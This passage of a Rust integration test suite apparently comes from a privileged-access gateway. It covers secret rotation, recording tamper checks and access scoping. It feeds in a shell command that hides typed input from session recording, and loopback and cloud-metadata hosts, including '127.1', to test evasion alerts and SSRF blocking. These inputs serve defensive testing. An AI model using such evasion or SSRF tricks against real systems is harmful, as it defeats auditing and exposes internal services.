            .await;
    assert_eq!(
        (bad.status, bad.error_field()),
        (400, Some("db_ca")),
        "{:?}",
        bad.body
    );
}

/// Someone changes an account's secret in the vault while a rotation of it is under way
/// (here: the gateway is stopped just after the target took the new one). The rotation does
/// not overwrite the manual change; the target's secret is kept as pending, visible, and a
/// super administrator promotes it; the manual one goes to the history.
#[tokio::test]
async fn a_secret_changed_during_a_rotation_is_not_overwritten_and_nothing_is_lost() {
    use crate::postgres_cluster::cluster;
    use crate::rotation::{pg_resource, reveal, role, wait_job};
    let mut site = Site::new(Backend::Sqlite);
    site.env = vec![("PORTCULLIS_TEST_PAUSE_AT".into(), "changed".into())];
    let mut server = site.start();
    let admin = server.admin().await;
    let (rid, _) = pg_resource(&admin, "pg-cas").await;
    let app_role = role("cas_app", "Cas-Old-Pw-1", "");
    let account = admin.account(&rid, &app_role, "Cas-Old-Pw-1").await;
    let r = admin
        .call("POST", &format!("/accounts/{account}/rotate"), json!({}))
        .await;
    let job_id = r.body["job"]["id"].as_str().unwrap_or_default().to_string();
    wait_job(&admin, &job_id, Some("paused after changed")).await;
    // The target has the new secret; meanwhile someone sets another one in the vault.
    admin
        .call(
            "PUT",
            &format!("/accounts/{account}/secret"),
            json!({ "secret": "Manual-Pw-During-1" }),
        )
        .await
        .ok();
    server.kill();
    site.env.clear();
    let server = site.start();
    let admin = server.client();
    admin
        .login_ok("admin", crate::harness::ADMIN_PASSWORD)
        .await;
    let job = wait_job(&admin, &job_id, None).await;
    assert_eq!(job["state"], "failed", "{job}");
    assert!(
        job["message"]
            .as_str()
            .unwrap_or_default()
            .contains("changed in the vault"),
        "{job}"
    );
    assert_eq!(
        reveal(&admin, &account).await,
        "Manual-Pw-During-1",
        "overwritten"
    );
    let pending = admin
        .get(&format!("/accounts/{account}/pending"))
        .await
        .ok();
    assert_eq!(pending["pending"]["phase"], "changed", "{pending}");
    assert!(!pending.to_string().contains("Cas-Old-Pw-1"), "{pending}");
    // The super administrator checks the target and promotes what it holds.
    admin
        .call(
            "POST",
            &format!("/accounts/{account}/pending/promote"),
            json!({ "reason": "the database takes the rotated password" }),
        )
        .await
        .ok();
    let now = reveal(&admin, &account).await;
    assert!(
        cluster().login_works(&app_role, &now),
        "the promoted secret does not log in"
    );
    let history = admin
        .get(&format!("/accounts/{account}/history"))
        .await
        .ok();
    assert!(history.to_string().contains("promoted"), "{history}");
    let audit = admin
        .get("/audit?action=account.pending.promote")
        .await
        .ok();
    assert_eq!(audit[0]["detail"]["alert"], true, "{audit}");
}

/// A rotation whose target went away right after the change: the pending secret is settled
/// again with back-off while the gateway runs (not only at its next start), and committed
/// once the target answers again.
#[tokio::test]
async fn an_open_pending_secret_is_settled_while_the_gateway_runs() {
    use crate::postgres_cluster::cluster;
    use crate::rotation::{reveal, role, wait_job};
    // A TCP relay to the test cluster that the test can take away and bring back.
    let relay_port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port");
    let relay = || {
        tokio::spawn(async move {
            let Ok(listener) = tokio::net::TcpListener::bind(("127.0.0.1", relay_port)).await
            else {
                return;
            };
            while let Ok((mut inbound, _)) = listener.accept().await {
                tokio::spawn(async move {
                    if let Ok(mut out) =
                        tokio::net::TcpStream::connect(("127.0.0.1", cluster().port)).await
                    {
                        let _ = tokio::io::copy_bidirectional(&mut inbound, &mut out).await;
                    }
                });
            }
        })
    };
    let mut site = Site::new(Backend::Sqlite);
    site.env = vec![("PORTCULLIS_TEST_PAUSE_AT".into(), "changed".into())];
    let mut server = site.start();
    let admin = server.admin().await;
    let admin_role = role("settle_adm", "Settle-Adm-Pw-1", "CREATEROLE");
    let r = admin
        .call("POST", "/resources", json!({ "name": "pg-relayed", "host": "127.0.0.1", "resource_type": "database", "ports": { "database": relay_port }, "policy_id": "policy-low" }))
        .await
        .ok();
    let rid = r["id"].as_str().unwrap_or_default().to_string();
    let privileged = admin.account(&rid, &admin_role, "Settle-Adm-Pw-1").await;
    admin
        .call("PUT", &format!("/resources/{rid}/rotation"), json!({ "method": "postgres", "privileged_account_id": privileged, "db_name": "postgres", "db_tls": "prefer" }))
        .await
        .ok();
    let app_role = role("settle_app", "Settle-Old-Pw-2", "");
    let account = admin.account(&rid, &app_role, "Settle-Old-Pw-2").await;
    let up = relay();
    let r = admin
        .call("POST", &format!("/accounts/{account}/rotate"), json!({}))
        .await;
    let job_id = r.body["job"]["id"].as_str().unwrap_or_default().to_string();
    wait_job(&admin, &job_id, Some("paused after changed")).await;
    // The gateway stops after the change, and the target is gone when it comes back.
    server.kill();
    up.abort();
    let _ = up.await;
    site.env.clear();
    let server = site.start();
    let admin = server.client();
    admin
        .login_ok("admin", crate::harness::ADMIN_PASSWORD)
        .await;
    let job = wait_job(&admin, &job_id, None).await;
    assert_eq!(job["state"], "failed", "{job}");
    let pending = admin
        .get(&format!("/accounts/{account}/pending"))
        .await
        .ok();
    assert_eq!(pending["pending"]["attempts"], 1, "{pending}");
    // The target is back: within the back-off (10 s) and a clock tick, the rotation settles.
    let _up = relay();
    let mut settled = serde_json::Value::Null;
    for _ in 0..300 {
        settled = admin.get(&format!("/rotation/jobs/{job_id}")).await.ok()["job"].clone();
        if settled["state"] == "succeeded" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(settled["state"], "succeeded", "{settled}");
    let now = reveal(&admin, &account).await;
    assert_ne!(now, "Settle-Old-Pw-2");
    assert!(cluster().login_works(&app_role, &now));
    let pending = admin
        .get(&format!("/accounts/{account}/pending"))
        .await
        .ok();
    assert_eq!(pending["pending"], serde_json::Value::Null, "{pending}");
}

/// An auditor copies a finished recording's `.pcr` alone (no manifest) and flips one byte
/// near its end: `recording verify FILE` fails naming the last chunk (its own signature),
/// instead of "OK, INCOMPLETE". The untouched file alone is incomplete (exit 3, every chunk
/// signed); by id, with its manifest removed from the store, it fails (the server closed it).
#[tokio::test]
async fn a_recording_altered_at_its_end_fails_verification_without_its_manifest() {
    use crate::live::{engineer_with_connect, exit_shell, open_session, read_until, terminal_has};
    let w = engineer_with_connect().await;
    let (mut ws, mut got) = open_session(&w.server, &w.tls, &w.eng, &w.cookie, &w.account).await;
    read_until(&mut ws, &mut got, "the prompt", |g| terminal_has(g, "$ ")).await;
    crate::live::type_line(&mut ws, &mut got, "echo signed-$((6*7))", "signed-42").await;
    exit_shell(&mut ws, &mut got).await;
    let rows = crate::recordings::recordings_in(&w.admin, "complete", 1).await;
    let id = rows[0]["id"].as_str().unwrap_or_default().to_string();
    let stored = w._site.data_dir().join("recordings");
    let copy = tempfile_dir().join(format!("{id}.pcr"));
    std::fs::copy(stored.join(format!("{id}.pcr")), &copy).expect("copy the .pcr alone");
    let verify = |target: &str| {
        let out = w._site.cli(&["recording", "verify", target]);
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).to_string(),
        )
    };
    let (code, text) = verify(copy.to_str().unwrap_or_default());
    assert_eq!(code, Some(3), "{text}");
    assert!(
        text.contains("every chunk carries its own signature"),
        "{text}"
    );
    let mut bytes = std::fs::read(&copy).expect("read");
    let at = bytes.len() - recorder_signature_record() - 5;
    bytes[at] ^= 0x01;
    std::fs::write(&copy, &bytes).expect("write");
    let (code, text) = verify(copy.to_str().unwrap_or_default());
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("FAILS VERIFICATION") && text.contains("signature"),
        "{text}"
    );
    // By id, with the manifest gone from the store: the server knows it closed it.
    std::fs::remove_file(stored.join(format!("{id}.manifest.json"))).expect("remove manifest");
    let (code, text) = verify(&id);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("manifest") && text.contains("missing"),
        "{text}"
    );
}

fn recorder_signature_record() -> usize {
    recorder::format::SIGNATURE_RECORD
}

/// A fresh directory for files a test hands around.
fn tempfile_dir() -> std::path::PathBuf {
    let d = unique_temp("files");
    let _ = std::fs::create_dir_all(&d);
    d
}

/// A user makes every command look like a password entry (`PS1='token: '; stty -echo`), so
/// the recording keeps only their lengths. The session is flagged: after a few such lines an
/// audit alert names it and its recording.
#[tokio::test]
async fn a_shell_dressed_as_a_password_prompt_raises_an_alert() {
    use crate::live::{engineer_with_connect, open_session, read_until, terminal_has};
    use futures_util::SinkExt;
    use tokio_tungstenite::tungstenite::Message;
    let w = engineer_with_connect().await;
    let (mut ws, mut got) = open_session(&w.server, &w.tls, &w.eng, &w.cookie, &w.account).await;
    read_until(&mut ws, &mut got, "the prompt", |g| terminal_has(g, "$ ")).await;
    ws.send(Message::Binary(
        b"PS1='token: '; stty -echo\r".to_vec().into(),
    ))
    .await
    .expect("sent");
    // The rendered screen ends at the disguised prompt (the command line's own echo also
    // holds the words, so the raw bytes would match too early).
    let at_prompt = |g: &crate::live::Received, after: &str| {
        let mut screen = gateway::screen::TerminalScreen::new(80, 24);
        screen.process(&g.terminal);
        let text = screen.text();
        let lines: Vec<&str> = text
            .lines()
            .map(str::trim_end)
            .filter(|l| !l.is_empty())
            .collect();
        lines.last() == Some(&"token:") && (after.is_empty() || lines.contains(&after))
    };
    read_until(&mut ws, &mut got, "the disguised prompt", |g| {
        at_prompt(g, "")
    })
    .await;
    // Each command is typed once the disguised prompt is back (as a person would).
    for i in 100..105 {
        ws.send(Message::Binary(
            format!("echo hidden-$(({i}+0))\r").into_bytes().into(),
        ))
        .await
        .expect("sent");
        let shown = format!("hidden-{i}");
        read_until(&mut ws, &mut got, "the output and the next prompt", |g| {
            at_prompt(g, &shown)
        })
        .await;
    }
    let mut alert = serde_json::Value::Null;
    for _ in 0..100 {
        alert = w.admin.get("/audit?action=session.redaction").await.ok();
        if alert.as_array().is_some_and(|a| !a.is_empty()) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(alert[0]["detail"]["alert"], true, "{alert}");
    assert!(
        alert[0]["detail"]["hidden_lines"].as_u64().unwrap_or(0) >= 4,
        "{alert}"
    );
    ws.send(Message::Binary(b"exit\r".to_vec().into()))
        .await
        .expect("sent");
    drop(ws);

    // The replay shows lengths only; what was typed is kept, sealed under the recording's
    // hidden-input key, and opened only by a super administrator with a reason (audited).
    let rows = crate::recordings::recordings_in(&w.admin, "complete", 1).await;
    let rec = rows[0]["id"].as_str().unwrap_or_default().to_string();
    let events = w.admin.get(&format!("/recordings/{rec}/events")).await.ok();
    assert!(!events.to_string().contains("hidden-$((100"), "{events}");
    let (admin2, _) = w.server.user(&w.admin, "admin2", "administrator").await;
    let path = format!("/recordings/{rec}/hidden-input");
    let refused = admin2
        .call("POST", &path, json!({ "reason": "curious" }))
        .await;
    assert_eq!(refused.status, 403, "{:?}", refused.body);
    let no_reason = w.admin.call("POST", &path, json!({ "reason": " " })).await;
    assert_eq!(
        (no_reason.status, no_reason.error_field()),
        (400, Some("reason"))
    );
    let opened = w
        .admin
        .call("POST", &path, json!({ "reason": "evasion alert 42" }))
        .await
        .ok();
    let texts: Vec<&str> = opened["lines"]
        .as_array()
        .map(|a| a.iter().filter_map(|l| l["text"].as_str()).collect())
        .unwrap_or_default();
    for i in 100..105 {
        let typed = format!("echo hidden-$(({i}+0))");
        assert!(texts.contains(&typed.as_str()), "{typed} not in {texts:?}");
    }
    assert!(texts.contains(&"exit"), "{texts:?}");
    let audit = w
        .admin
        .get("/audit?action=recording.hidden_input")
        .await
        .ok();
    assert_eq!(audit[0]["outcome"], "ok", "{audit}");
    assert_eq!(audit[0]["detail"]["reason"], "evasion alert 42", "{audit}");
    assert!(audit[0]["detail"]["alert"].is_string(), "{audit}");
    assert_eq!(audit[1]["outcome"], "denied", "{audit}");
}

/// With the default network policy, a user with Modify cannot point a resource at the
/// gateway's own loopback or a link-local (cloud metadata) address, nor reach one through a
/// name that resolves there.
#[tokio::test]
async fn resources_cannot_point_at_the_gateways_own_networks() {
    let mut site = Site::new(Backend::Sqlite);
    site.env
        .push(("PORTCULLIS_RESOURCE_NETWORKS".into(), "default".into()));
    let (server, tls) = crate::live::start(&site);
    let admin = server.admin().await;
    for host in ["127.0.0.1", "localhost", "169.254.169.254", "::1"] {
        let r = admin
            .call(
                "POST",
                "/resources",
                json!({ "name": format!("r-{host}"), "host": host, "ports": { "ssh": 22 } }),
            )
            .await;
        assert_eq!(
            (r.status, r.error_field()),
            (400, Some("host")),
            "{host}: {:?}",
            r.body
        );
        assert!(
            r.error_message().contains("resource_networks"),
            "{:?}",
            r.body
        );
    }
    // A resource elsewhere cannot be moved to loopback either.
    let rid = admin.resource("outside").await;
    let r = admin
        .call(
            "PATCH",
            &format!("/resources/{rid}"),
            json!({ "host": "127.0.0.2" }),
        )
        .await;
    assert_eq!(
        (r.status, r.error_field()),
        (400, Some("host")),
        "{:?}",
        r.body
    );
    // A host that only resolves to loopback ("127.1", which the resolver reads as
    // 127.0.0.1) passes as a name, and is refused when the session starts.
    let r = admin
        .call(
            "POST",
            "/resources",
            json!({ "name": "sneaky", "host": "127.1", "ports": { "ssh": 22 } }),
        )
        .await
        .ok();
    let sneaky = r["id"].as_str().unwrap_or_default().to_string();
    let account = admin.account(&sneaky, "ops", "Sneaky-Pw-000001!").await;
    let ac = server.client();
    let cookie = cookie_of(&ac.login("admin", crate::harness::ADMIN_PASSWORD).await);
    let err = crate::live::first_error(&server, &tls, &ac, &cookie, &account).await;
    assert!(
        err["message"]
            .as_str()
            .unwrap_or_default()
            .contains("resource_networks"),
        "{err}"
    );
}

/// A password administrator oversees rotation, but a job names an account, its resource and
/// who asked for it: they see the jobs (and runs) of accounts they can use, not the others'.
/// An auditor sees every job.
#[tokio::test]
async fn rotation_jobs_are_shown_only_for_accounts_the_caller_can_use() {
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let root = server.admin().await;
    let (pwadmin, pwadmin_id) = server
        .user(&root, "pwadmin", "password_administrator")
        .await;
    let (auditor, _) = server.user(&root, "auditor", "password_auditor").await;
    let theirs = root.resource("shared-box").await;
    let theirs_acc = root.account(&theirs, "app", "Shared-Box-Pw-0001!").await;
    root.call("POST", "/shares", json!({ "subject_kind": "user", "subject_id": pwadmin_id, "object_kind": "account", "object_id": theirs_acc, "level": "view" })).await.ok();
    let other = root.resource("payroll-db").await;
    let other_acc = root.account(&other, "payroll", "Payroll-Db-Pw-0002!").await;
    let mut job_ids = Vec::new();
    for acc in [&theirs_acc, &other_acc] {
        let j = root
            .call("POST", &format!("/accounts/{acc}/verify"), json!({}))
            .await
            .ok();
        job_ids.push(j["job"]["id"].as_str().unwrap_or_default().to_string());
    }
    let seen = pwadmin.get("/rotation/jobs").await.ok().to_string();
    assert!(seen.contains(&job_ids[0]), "{seen}");
    assert!(
        !seen.contains(&job_ids[1]) && !seen.contains("payroll"),
        "{seen}"
    );
    let one = pwadmin.get(&format!("/rotation/jobs/{}", job_ids[1])).await;
    assert_eq!(one.status, 404, "{:?}", one.body);
    pwadmin
        .get(&format!("/rotation/jobs/{}", job_ids[0]))
        .await
        .ok();
    let all = auditor.get("/rotation/jobs").await.ok().to_string();
    assert!(
        all.contains(&job_ids[0]) && all.contains(&job_ids[1]),
        "{all}"
    );

    // A run over every resource: the password administrator sees it summarised over their
    // account only, and its report lists only that account's job.
    let run = root
        .call(
            "POST",
            &format!("/resources/{other}/rotation/run"),
            json!({ "kind": "verify" }),
        )
        .await
        .ok();
    let run_id = run["run"]["id"].as_str().unwrap_or_default().to_string();
    let runs = pwadmin.get("/rotation/runs").await.ok().to_string();
    assert!(!runs.contains(&run_id), "{runs}");
    let r = pwadmin.get(&format!("/rotation/runs/{run_id}")).await;
    assert_eq!(r.status, 404, "{:?}", r.body);
    let shared_run = root
        .call(
            "POST",
            &format!("/resources/{theirs}/rotation/run"),
            json!({ "kind": "verify" }),
        )
        .await
        .ok();
    let shared_id = shared_run["run"]["id"].as_str().unwrap_or_default();
    let report = pwadmin
        .get(&format!("/rotation/runs/{shared_id}"))
        .await
        .ok();
    assert_eq!(report["total"], 1, "{report}");
    assert_eq!(
        report["jobs"][0]["account_id"],
        json!(theirs_acc),
        "{report}"
    );
}
